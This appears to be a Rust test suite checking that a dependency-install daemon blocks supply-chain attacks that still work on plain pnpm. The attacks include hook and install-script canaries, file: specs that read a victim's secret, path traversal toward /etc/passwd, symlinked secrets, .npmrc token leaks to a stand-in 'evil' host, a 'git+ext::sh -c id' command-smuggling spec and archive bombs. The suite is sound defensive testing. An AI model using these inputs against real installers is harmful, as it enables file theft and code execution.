//! Projects and packages that attack while their dependencies are installed: each a named case, with what stopped it, and, where
//! that is safe, with plain `pnpm install --ignore-scripts` beside it, for which the attack works.
//!
//! Invariant: an attack that would no longer work on plain pnpm fails its test, so that no case proves nothing.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::LazyLock;

use serde_json::{Value, json};
use tokio::sync::OnceCell;

use crate::harness::registry::{Entry, Registry};
use crate::harness::{Daemon, Options, guard};

/// The registry that daemon and plain pnpm use.
static REGISTRY: LazyLock<Registry> = LazyLock::new(|| {
    let registry = Registry::start(None);
    registry.publish("harmless", "1.0.0", &json!({}), &[Entry::File("package/index.js", b"module.exports = 1;\n")]);
    registry
});
/// A host that nobody configured.
static EVIL: LazyLock<Registry> = LazyLock::new(|| {
    let evil = Registry::start(None);
    evil.publish("harmless", "1.0.0", &json!({}), &[Entry::File("package/index.js", b"module.exports = 'evil';\n")]);
    evil.publish("@acme/tool", "1.0.0", &json!({}), &[Entry::File("package/index.js", b"module.exports = 'evil';\n")]);
    evil
});
/// All cases share one daemon: so one that harmed the store would show in others too.
static DAEMON: OnceCell<Daemon> = OnceCell::const_new();

async fn daemon() -> &'static Daemon {
    DAEMON.get_or_init(async || Options::default().set("build.registry", &REGISTRY.url).cold_store().start().await).await
}

type Files = Vec<(&'static str, String)>;

/// What came of an attack on previewd.
struct Outcome {
    failure: Value,
    log: String,
    /// `hit` or `miss` once there is one.
    layer_use: Value,
    layer: Option<PathBuf>,
}

impl Outcome {
    /// Refused before pnpm was started, with a failure that names what is wrong.
    fn is_refused(&self, names: &str) {
        assert_eq!(self.failure["kind"], "install", "{:#} {}", self.failure, self.log);
        let message = self.failure["message"].as_str().expect("a message");
        assert!(message.contains(names), "{names:?} is not in {message:?}");
        assert!(self.layer.is_none());
    }

    /// Dependencies were installed as if what is hostile was not there (that there is no Vite comes later).
    fn is_installed(&self) {
        assert_eq!(self.layer_use, "miss", "{:#} {}", self.failure, self.log);
        assert!(self.layer.is_some());
    }

    /// A file of an installed package.
    fn package_file(&self, path: &str) -> Option<String> {
        fs::read_to_string(self.layer.as_ref().expect("a layer").join("node_modules").join(path)).ok()
    }
}

/// Has previewd build a project of these files.
async fn attack(name: &str, files: Files) -> Outcome {
    attack_on(daemon().await, name, files).await
}

async fn attack_on(daemon: &Daemon, name: &str, files: Files) -> Outcome {
    let mut dependencies = Value::Null;
    for (path, mut content) in files {
        if path == "package.json" {
            let mut manifest: Value = serde_json::from_str(&content).expect("JSON");
            if manifest["dependencies"]["harmless"].is_string() {
                // So that no case is answered with another's layer.
                let own = format!("case-{name}");
                REGISTRY.publish(&own, "1.0.0", &json!({}), &[]);
                manifest["dependencies"][own] = json!("1.0.0");
            }
            dependencies = manifest["dependencies"].clone();
            content = manifest.to_string();
        }
        daemon.put(name, path, content);
    }
    daemon.put(name, "vite.config.js", "export default {};\n");
    let answer = daemon.sync_and_wait(name).await;
    let layer = layers(daemon).into_iter().find(|layer| manifest_of(layer)["dependencies"] == dependencies);
    Outcome { failure: answer["build"]["failure"].clone(), log: daemon.build_log(name).await, layer_use: answer["build"]["layer"].clone(), layer }
}

fn manifest_of(layer: &Path) -> Value {
    serde_json::from_str(&fs::read_to_string(layer.join("package.json")).expect("package.json")).expect("JSON")
}

fn layers(daemon: &Daemon) -> Vec<PathBuf> {
    let entries = fs::read_dir(daemon.data().join("layers")).expect("layers").flatten();
    entries.map(|entry| entry.path()).filter(|path| path.join("layer.json").exists()).collect()
}

/// Has plain pnpm install the same in a folder of its own; returns the folder.
fn naive(files: &Files) -> tempfile::TempDir {
    let dir = guard::temp_dir();
    let project = dir.path().join("project");
    for (path, content) in files {
        let path = project.join(path);
        fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        fs::write(path, content).expect("write");
    }
    let mut pnpm = Command::new("pnpm");
    pnpm.args(["install", "--ignore-scripts", "--no-frozen-lockfile"]).current_dir(&project).env("CI", "1").env("HOME", dir.path());
    for name in ["XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME"] {
        pnpm.env(name, dir.path().join(name));
    }
    pnpm.env("npm_config_registry", &REGISTRY.url).env("pnpm_config_registry", &REGISTRY.url);
    let output = pnpm.output().expect("pnpm");
    fs::write(dir.path().join("output"), [output.stdout, output.stderr].concat()).expect("write");
    dir
}

fn told(dir: &tempfile::TempDir) -> String {
    fs::read_to_string(dir.path().join("output")).expect("output")
}

/// A place that an attack is to write to: one for plain pnpm, one for previewd.
fn canaries() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = guard::temp_dir();
    let (naive, ours) = (dir.path().join("naive"), dir.path().join("ours"));
    (dir, naive, ours)
}

fn manifest(dependencies: &Value) -> String {
    json!({ "name": "attack", "version": "1.0.0", "dependencies": dependencies }).to_string()
}

fn harmless() -> (&'static str, String) {
    ("package.json", manifest(&json!({ "harmless": "1.0.0" })))
}

/// The same attack twice: `files` get the path that is to be written. Plain pnpm has to write it.
async fn writes_outside(name: &str, files: impl Fn(&Path) -> Files) -> Outcome {
    let (_dir, there, ours) = canaries();
    let output = naive(&files(&there));
    assert!(there.exists(), "{name} no longer works on plain pnpm: {}", told(&output));
    let outcome = attack(name, files(&ours)).await;
    assert!(!ours.exists(), "{name}: {}", outcome.log);
    outcome
}

/// The same for an attack that has to reach the other host.
async fn reaches(name: &str, path: &str, files: Files) -> Outcome {
    let output = naive(&files);
    assert!(EVIL.was_asked_for(path), "{name} no longer works on plain pnpm: {}", told(&output));
    let before = EVIL.asked().iter().filter(|line| line.contains(path)).count();
    let outcome = attack(name, files).await;
    assert_eq!(EVIL.asked().iter().filter(|line| line.contains(path)).count(), before, "{name}: {}", outcome.log);
    outcome
}

fn hook(canary: &Path) -> String {
    format!("require('fs').writeFileSync('{}', ''); module.exports = {{}};\n", canary.display())
}

// Code of the project.

#[tokio::test]
async fn pnpmfile_cjs() {
    let outcome = writes_outside("pnpmfile-cjs", |canary| vec![harmless(), (".pnpmfile.cjs", hook(canary))]).await;
    outcome.is_installed();
    assert!(outcome.log.contains("never run: .pnpmfile.cjs"), "{}", outcome.log);
}

#[tokio::test]
async fn pnpmfile_mjs() {
    let text = |canary: &Path| format!("import fs from 'fs'; fs.writeFileSync('{}', ''); export const hooks = {{}};\n", canary.display());
    writes_outside("pnpmfile-mjs", |canary| vec![harmless(), (".pnpmfile.mjs", text(canary))]).await.is_installed();
}

#[tokio::test]
async fn pnpmfile_named_in_the_workspace_file() {
    let yaml = "pnpmfile: hooks/mine.cjs\n";
    let files = |canary: &Path| vec![harmless(), ("pnpm-workspace.yaml", yaml.to_owned()), ("hooks/mine.cjs", hook(canary))];
    writes_outside("pnpmfile-key", files).await.is_installed();
}

#[tokio::test]
async fn config_dependency_with_a_pnpmfile() {
    let files = |canary: &Path| {
        let name = format!("pnpm-plugin-{}", canary.file_name().expect("name").to_string_lossy());
        let hook = hook(canary);
        let integrity = REGISTRY.publish(&name, "1.0.0", &json!({}), &[Entry::File("package/pnpmfile.cjs", hook.as_bytes())]);
        vec![harmless(), ("pnpm-workspace.yaml", format!("configDependencies:\n  {name}: 1.0.0+{integrity}\n"))]
    };
    writes_outside("config-dependency", files).await.is_installed();
}

#[tokio::test]
async fn scripts_of_the_project() {
    let files = |canary: &Path| {
        let write = format!("touch {}", canary.display());
        let scripts = json!({ "preinstall": write, "install": write, "postinstall": write, "prepare": write });
        vec![("package.json", json!({ "name": "x", "scripts": scripts, "dependencies": { "harmless": "1.0.0" } }).to_string())]
    };
    let (_dir, _, ours) = canaries();
    let outcome = attack("project-scripts", files(&ours)).await;
    outcome.is_installed();
    assert!(!ours.exists() && outcome.log.contains("never run: preinstall of package.json, install of"), "{}", outcome.log);
}

#[tokio::test]
async fn scripts_of_a_package_that_the_project_allows() {
    let (_dir, _, ours) = canaries();
    let write = format!("touch {}", ours.display());
    REGISTRY.publish("scripted", "1.0.0", &json!({ "scripts": { "preinstall": write, "postinstall": write } }), &[]);
    let manifest = manifest(&json!({ "scripted": "1.0.0" }));
    let yaml = "onlyBuiltDependencies: [scripted]\nallowBuilds: {scripted: true}\ndangerouslyAllowAllBuilds: true\n";
    let outcome = attack("package-scripts", vec![("package.json", manifest), ("pnpm-workspace.yaml", yaml.to_owned())]).await;
    outcome.is_installed();
    assert!(!ours.exists() && outcome.log.contains("1 packages have install scripts, which are never run: scripted"), "{}", outcome.log);
}

// Folders that a project would choose.

async fn setting_writes(name: &str, key: &str) {
    let files = |canary: &Path| {
        let path = if key == "modulesDir" { format!("../../{}/{}", parent(canary), file(canary)) } else { canary.display().to_string() };
        vec![harmless(), ("pnpm-workspace.yaml", format!("{key}: {path}\nenableGlobalVirtualStore: {}\n", key == "globalVirtualStoreDir"))]
    };
    writes_outside(name, files).await.is_installed();
}

fn parent(path: &Path) -> String {
    path.parent().and_then(Path::file_name).expect("a folder").to_string_lossy().into_owned()
}

fn file(path: &Path) -> String {
    path.file_name().expect("a name").to_string_lossy().into_owned()
}

#[tokio::test]
async fn modules_dir() {
    setting_writes("modules-dir", "modulesDir").await;
}

#[tokio::test]
async fn virtual_store_dir() {
    setting_writes("virtual-store-dir", "virtualStoreDir").await;
}

#[tokio::test]
async fn global_virtual_store_dir() {
    setting_writes("global-virtual-store-dir", "globalVirtualStoreDir").await;
}

#[tokio::test]
async fn cache_dir() {
    setting_writes("cache-dir", "cacheDir").await;
}

#[tokio::test]
async fn store_dir() {
    setting_writes("store-dir", "storeDir").await;
}

#[tokio::test]
async fn lockfile_dir() {
    setting_writes("lockfile-dir", "lockfileDir").await;
}

#[tokio::test]
async fn symlinks_in_place_of_files() {
    let daemon = daemon().await;
    let (dir, _, _) = canaries();
    fs::write(dir.path().join("secret.json"), json!({ "dependencies": { "stolen": "1.0.0" } }).to_string()).expect("write");
    daemon.put("symlinks", "vite.config.js", "export default {};\n");
    let source = daemon.data().join("source/symlinks/frontend");
    for (link, target) in [("package.json", "secret.json"), ("pnpm-lock.yaml", "secret.json"), ("node_modules", "")] {
        std::os::unix::fs::symlink(dir.path().join(target), source.join(link)).expect("symlink");
    }
    daemon.sync_and_wait("symlinks").await;
    assert!(!REGISTRY.was_asked_for("stolen"), "the link was followed");
    assert_eq!(fs::read_dir(dir.path()).expect("dir").count(), 1, "something was installed through the link");
}

// Specs that lead to files of the machine.

/// A victim's folder that is a package, with a secret in it.
fn victim() -> tempfile::TempDir {
    let dir = guard::temp_dir();
    fs::write(dir.path().join("package.json"), r#"{"name":"victim","version":"1.0.0"}"#).expect("write");
    fs::write(dir.path().join("secret"), "a secret of somebody else\n").expect("write");
    dir
}

async fn spec_reads(name: &str, scheme: &str) {
    let victim = victim();
    let spec = format!("{scheme}{}", victim.path().display());
    let files = vec![("package.json", manifest(&json!({ "victim": spec })))];
    let dir = naive(&files);
    assert!(dir.path().join("project/node_modules/victim/secret").exists(), "{name} no longer works on plain pnpm: {}", told(&dir));
    attack(name, files).await.is_refused(&format!("victim@{spec} is refused"));
}

#[tokio::test]
async fn file_spec() {
    spec_reads("file-spec", "file:").await;
}

#[tokio::test]
async fn link_spec() {
    spec_reads("link-spec", "link:").await;
}

#[tokio::test]
async fn file_spec_of_a_published_package() {
    let victim = victim();
    let spec = format!("file:{}", victim.path().display());
    REGISTRY.publish("thief", "1.0.0", &json!({ "dependencies": { "victim": spec } }), &[]);
    let files = vec![("package.json", manifest(&json!({ "thief": "1.0.0" })))];
    let dir = naive(&[files.clone(), vec![("pnpm-workspace.yaml", "blockExoticSubdeps: false\n".to_owned())]].concat());
    let stolen = fs::read_dir(dir.path().join("project/node_modules/.pnpm")).into_iter().flatten().flatten();
    let stolen = stolen.filter(|entry| entry.path().join("node_modules/victim/secret").exists()).count();
    assert!(stolen > 0, "no longer works on plain pnpm: {}", told(&dir));
    attack("file-transitive", files).await.is_refused("victim");
}

#[tokio::test]
async fn local_tarball() {
    let spec = "file:/etc/secret.tgz";
    attack("local-tarball", vec![("package.json", manifest(&json!({ "x": spec })))]).await.is_refused("x@file:/etc/secret.tgz is refused");
}

#[tokio::test]
async fn specs_of_other_tools() {
    let specs = [
        "portal:../x",
        "exec:./x.js",
        "patch:harmless@1.0.0#./x.patch",
        "git+ssh://git@host/x.git",
        "git+ext::sh -c id",
        "github:user/repo",
        "user/repo#main",
        "https://host/x.tgz",
        "workspace:../x",
        "npm:x@file:/etc",
        "jsr:@a/b",
    ];
    for (n, spec) in specs.into_iter().enumerate() {
        let files = vec![("package.json", manifest(&json!({ "x": spec })))];
        attack(&format!("spec-{n}"), files).await.is_refused(&format!("x@{spec} is refused"));
    }
}

#[tokio::test]
async fn workspace_outside_of_the_project() {
    let yaml = "packages: ['../*', '/etc', '.']\n";
    let text = manifest(&json!({ "victim": "workspace:*" }));
    attack("workspace-outside", vec![("package.json", text), ("pnpm-workspace.yaml", yaml.to_owned())]).await.is_refused("victim");
}

#[tokio::test]
async fn specs_behind_catalogs_and_overrides() {
    let victim = victim();
    let spec = format!("file:{}", victim.path().display());
    let yaml = format!("catalog:\n  victim: {spec}\n");
    let files = vec![("package.json", manifest(&json!({ "victim": "catalog:" }))), ("pnpm-workspace.yaml", yaml)];
    let outcome = attack("catalog", files).await;
    outcome.is_refused("victim");
    assert!(outcome.log.contains("catalog entry victim"), "{}", outcome.log);
    for key in ["overrides", "resolutions"] {
        let text = json!({ "dependencies": { "harmless": "1.0.0" }, key: { "harmless": spec } }).to_string();
        let outcome = attack(key, vec![("package.json", text)]).await;
        outcome.is_installed();
        assert!(outcome.log.contains("override harmless: file:"), "{}", outcome.log);
    }
    let files = vec![("package.json", json!({ "dependencies": { "harmless": "1.0.0" }, "overrides": { "harmless": spec } }).to_string())];
    let yaml = ("pnpm-workspace.yaml", format!("overrides:\n  harmless: {spec}\n"));
    let dir = naive(&[files, vec![yaml]].concat());
    assert!(dir.path().join("project/node_modules/harmless/secret").exists(), "no longer works on plain pnpm: {}", told(&dir));
}

#[tokio::test]
async fn patches_that_lead_out() {
    let yaml = "patchedDependencies:\n  harmless@1.0.0: ../../../../etc/passwd\n";
    attack("patched", vec![harmless(), ("pnpm-workspace.yaml", yaml.to_owned())]).await.is_installed();
}

#[tokio::test]
async fn names_that_are_paths() {
    for (n, name) in ["../../escape", "/etc/escape", "@a/../../escape", ".bin/escape", "node_modules"].into_iter().enumerate() {
        attack(&format!("name-{n}"), vec![("package.json", manifest(&json!({ (name): "1.0.0" })))]).await.is_refused("is not a package name");
    }
    let escape = guard::temp_dir();
    let name = format!("../../../../../../../../../..{}/escape", escape.path().display());
    REGISTRY.publish("bad-names", "1.0.0", &json!({ "dependencies": { (name): "npm:harmless@1.0.0" } }), &[]);
    attack("name-transitive", vec![("package.json", manifest(&json!({ "bad-names": "1.0.0" })))]).await;
    assert!(!escape.path().join("escape").exists());
}

// Other hosts.

#[tokio::test]
async fn tarball_from_another_host() {
    let url = format!("{}harmless/-/harmless-1.0.0.tgz", EVIL.url);
    let files = vec![("package.json", manifest(&json!({ "x": url })))];
    reaches("tarball-url", "GET /harmless/-/", files).await.is_refused(&format!("x@{url} is refused"));
}

#[tokio::test]
async fn tarball_url_of_a_published_package() {
    let url = format!("{}@acme/tool/-/tool-1.0.0.tgz", EVIL.url);
    REGISTRY.publish("exotic", "1.0.0", &json!({ "dependencies": { "x": url } }), &[]);
    let text = manifest(&json!({ "exotic": "1.0.0" }));
    let files = vec![("package.json", text), ("pnpm-workspace.yaml", "blockExoticSubdeps: false\n".to_owned())];
    reaches("tarball-transitive", "GET /@acme/tool/-/", files).await.is_refused("x");
}

#[tokio::test]
async fn registry_that_points_elsewhere() {
    let integrity = EVIL.publish("elsewhere", "1.0.0", &json!({}), &[]);
    let dist = json!({ "dist": { "tarball": format!("{}elsewhere/-/elsewhere-1.0.0.tgz", EVIL.url), "integrity": integrity } });
    REGISTRY.publish("elsewhere", "1.0.0", &dist, &[]);
    let files = vec![("package.json", manifest(&json!({ "elsewhere": "1.0.0" })))];
    let outcome = reaches("elsewhere", "GET /elsewhere/-/", files.clone()).await;
    outcome.is_refused(&format!("it needs {}, which is neither build.registry nor in build.registry_hosts", EVIL.host()));
    // An operator may allow it.
    let options = Options::default().set("build.registry", &REGISTRY.url).set("build.registry_hosts", EVIL.host());
    let daemon = options.cold_store().start().await;
    attack_on(&daemon, "elsewhere", files).await.is_installed();
}

async fn npmrc_reaches(name: &str, path: &str, dependency: &str, npmrc: String) {
    let outcome = reaches(name, path, vec![("package.json", manifest(&json!({ (dependency): "1.0.0" }))), (".npmrc", npmrc)]).await;
    if dependency == "harmless" {
        outcome.is_installed();
    } else {
        // Our registry does not know it.
        outcome.is_refused(dependency);
    }
}

#[tokio::test]
async fn scoped_registry() {
    npmrc_reaches("scoped-registry", "GET /@acme%2Ftool", "@acme/tool", format!("@acme:registry={}\n", EVIL.url)).await;
}

#[tokio::test]
async fn registry_of_the_project() {
    // Plain pnpm is given its registry as a variable, over which a scoped one in a workspace file still has the last word.
    EVIL.publish("@own/tool", "1.0.0", &json!({}), &[]);
    let yaml = format!("registries:\n  '@own': {}\n", EVIL.url);
    let files = vec![("package.json", manifest(&json!({ "@own/tool": "1.0.0" }))), ("pnpm-workspace.yaml", yaml)];
    reaches("own-registry", "GET /@own%2Ftool", files).await.is_refused("@own/tool");
}

#[tokio::test]
async fn proxy_of_the_project() {
    // A proxy sees the whole address.
    let proxy = format!("http://{}", EVIL.host());
    let yaml = format!("httpProxy: {proxy}\nhttpsProxy: {proxy}\nproxy: {proxy}\nstrictSsl: false\nnoProxy: ''\n");
    let files = vec![harmless(), ("pnpm-workspace.yaml", yaml), (".npmrc", format!("proxy={proxy}\nhttps-proxy={proxy}\nstrict-ssl=false\n"))];
    let outcome = reaches("project-proxy", &format!("GET {}harmless", REGISTRY.url), files).await;
    outcome.is_installed();
    assert_eq!(outcome.package_file("harmless/index.js").as_deref(), Some("module.exports = 1;\n"), "poisoned");
}

fn lockfile(integrity: &str, tarball: &str) -> String {
    format!(
        "lockfileVersion: '9.0'\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\nimporters:\n  .:\n    dependencies:\n      locked:\n        specifier: 1.0.0\n        version: 1.0.0\npackages:\n  locked@1.0.0:\n    resolution: {{integrity: {integrity}, tarball: {tarball}}}\nsnapshots:\n  locked@1.0.0: {{}}\n"
    )
}

#[tokio::test]
async fn lockfile_with_another_host() {
    let (entries, manifest) = ([Entry::File("package/index.js", b"1\n")], manifest(&json!({ "locked": "1.0.0" })));
    let integrity = REGISTRY.publish("locked", "1.0.0", &json!({}), &entries);
    EVIL.publish("locked", "1.0.0", &json!({}), &entries);
    let lock = lockfile(&integrity, &format!("{}locked/-/locked-1.0.0.tgz", EVIL.url));
    let npm = json!({ "lockfileVersion": 3, "packages": { "node_modules/locked": { "version": "1.0.0", "integrity": integrity, "resolved": format!("{}locked/-/locked-1.0.0.tgz", EVIL.url) } } });
    let files = vec![("package.json", manifest), ("pnpm-lock.yaml", lock), ("package-lock.json", npm.to_string())];
    reaches("lockfile-host", "GET /locked/-/", files).await.is_installed();
}

#[tokio::test]
async fn git_over_http() {
    let spec = format!("git+{}repo.git", EVIL.url);
    let files = vec![("package.json", manifest(&json!({ "x": spec })))];
    reaches("git-http", "GET /repo.git", files).await.is_refused(&format!("x@{spec} is refused"));
}

#[tokio::test]
async fn secrets_of_the_environment_in_npmrc() {
    let npmrc = format!("@acme:registry={}\n//{}/:_authToken=${{PATH}}\n//{}/:tokenHelper=/usr/bin/id\n", EVIL.url, EVIL.host(), EVIL.host());
    let before = EVIL.asked().len();
    let outcome = attack("npmrc-expansion", vec![harmless(), (".npmrc", npmrc)]).await;
    outcome.is_installed();
    assert!(!EVIL.asked()[before..].iter().any(|line| line.contains("Bearer")), "something was sent");
}

// Settings that break an install.

#[tokio::test]
async fn engines_and_pins() {
    let text = json!({
        "packageManager": "pnpm@8.0.0", "engines": { "pnpm": "<2", "node": "<2" }, "dependencies": { "harmless": "1.0.0" },
        "devEngines": { "packageManager": { "name": "bun", "onFail": "error" }, "runtime": { "name": "node", "version": "<2", "onFail": "error" } },
        "pnpm": { "requiredScripts": ["nothing"] },
    });
    let files = vec![("package.json", text.to_string()), (".npmrc", "engine-strict=true\n".to_owned())];
    let dir = naive(&files);
    assert!(!dir.path().join("project/node_modules/harmless").exists(), "no longer works on plain pnpm: {}", told(&dir));
    attack("engines", files).await.is_installed();
}

// Packages that are not what they say.

#[tokio::test]
async fn other_bytes_than_the_registry_said() {
    let other = json!({ "dist": { "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==" } });
    REGISTRY.publish("swapped", "1.0.0", &other, &[]);
    attack("swapped", vec![("package.json", manifest(&json!({ "swapped": "1.0.0" })))]).await.is_refused("swapped");
}

#[tokio::test]
async fn other_bytes_than_the_lockfile_said() {
    REGISTRY.publish("locked-other", "1.0.0", &json!({}), &[Entry::File("package/index.js", b"evil\n")]);
    let wrong = "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==";
    let lock = lockfile(wrong, "x").replace("locked", "locked-other").replace(", tarball: x", "").replace("locked-otherfile", "lockfile");
    let files = vec![("package.json", manifest(&json!({ "locked-other": "1.0.0" }))), ("pnpm-lock.yaml", lock)];
    let outcome = attack("locked-other", files).await;
    // What the lockfile says is not there; what the registry says is, and the log tells of the difference.
    assert!(outcome.log.contains("ntegrity") && outcome.log.contains("trying again with"), "{}", outcome.log);
}

#[tokio::test]
async fn commands_named_like_paths() {
    let escape = guard::temp_dir();
    let outside = format!("../../../../../../../../../..{}/evil", escape.path().display());
    let bins = json!({ "bin": { "../../../evil": "run.js", (outside): "run.js", "ok": "run.js" } });
    REGISTRY.publish("bins", "1.0.0", &bins, &[Entry::File("package/run.js", b"#!/usr/bin/env node\n")]);
    let outcome = attack("bins", vec![("package.json", manifest(&json!({ "bins": "1.0.0" })))]).await;
    outcome.is_installed();
    let layer = outcome.layer.as_ref().expect("a layer");
    let names: Vec<_> = fs::read_dir(layer.join("node_modules/.bin")).expect(".bin").flatten().map(|entry| entry.file_name()).collect();
    assert_eq!(names, ["ok"]);
    assert_eq!(fs::read_dir(escape.path()).expect("dir").count(), 0);
}

#[tokio::test]
async fn commands_that_are_files_of_others() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |path: &Path| fs::metadata(path).expect("the file").permissions().mode() & 0o777;
    let victim = victim();
    let secret = victim.path().join("secret");
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).expect("chmod");
    let up = "../".repeat(30);
    REGISTRY.publish(
        "bin-outside",
        "1.0.0",
        &json!({ "bin": { "run": format!("{up}{}", secret.display().to_string().trim_start_matches('/')) } }),
        &[],
    );
    // An installer makes commands executable.
    attack("bin-outside", vec![("package.json", manifest(&json!({ "bin-outside": "1.0.0" })))]).await;
    assert_eq!(mode(&secret), 0o600);
}

#[tokio::test]
async fn tarball_entries_that_lead_out() {
    let escape = guard::temp_dir();
    let up = "../../../../../../../../../..";
    let outside = format!("package/{up}{}/evil", escape.path().display());
    let absolute = format!("{}/evil", escape.path().display());
    let entries =
        [Entry::File(&outside, b"x"), Entry::File(&absolute, b"x"), Entry::File("package/../../evil", b"x"), Entry::File("package/ok.js", b"1\n")];
    REGISTRY.publish("traversal", "1.0.0", &json!({}), &entries);
    attack("traversal", vec![("package.json", manifest(&json!({ "traversal": "1.0.0" })))]).await;
    assert_eq!(fs::read_dir(escape.path()).expect("dir").count(), 0);
    let store = daemon().await.data();
    for folder in ["layers", "shared-store", "."] {
        assert!(!store.join(folder).join("evil").exists());
    }
}

#[tokio::test]
async fn symlinks_in_a_tarball() {
    let victim = victim();
    let secret = victim.path().join("secret");
    let entries = [Entry::Symlink("package/stolen", secret.to_str().expect("utf-8")), Entry::File("package/ok.js", b"1\n")];
    REGISTRY.publish("links", "1.0.0", &json!({}), &entries);
    let outcome = attack("links", vec![("package.json", manifest(&json!({ "links": "1.0.0" })))]).await;
    outcome.is_installed();
    assert_eq!((outcome.package_file("links/ok.js").as_deref(), outcome.package_file("links/stolen")), (Some("1\n"), None));
}

#[tokio::test]
async fn archive_that_fills_the_disk() {
    // 80 MB of zeros are 80 kB.
    let zeros = vec![0; 80 * 1024 * 1024];
    REGISTRY.publish("bomb", "1.0.0", &json!({}), &[Entry::File("package/zeros", &zeros)]);
    let files = vec![("package.json", manifest(&json!({ "bomb": "1.0.0" })))];
    let dir = naive(&files);
    assert!(dir.path().join("project/node_modules/bomb/zeros").exists(), "no longer works on plain pnpm: {}", told(&dir));
    let options = Options::default().set("build.registry", &REGISTRY.url).set("build.install_mb", 10);
    let daemon = options.cold_store().start().await;
    attack_on(&daemon, "bomb", files).await.is_refused("unpacks more than 10 MB, the limit build.install_mb");
}

#[tokio::test]
async fn archive_that_is_huge() {
    let noise: Vec<u8> = (0..20 * 1024 * 1024_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    REGISTRY.publish("huge", "1.0.0", &json!({}), &[Entry::File("package/noise", &noise)]);
    let options = Options::default().set("build.registry", &REGISTRY.url).set("build.install_mb", 5);
    let daemon = options.cold_store().start().await;
    let outcome = attack_on(&daemon, "huge", vec![("package.json", manifest(&json!({ "huge": "1.0.0" })))]).await;
    outcome.is_refused("more than 5 MB, the limit build.install_mb");
}
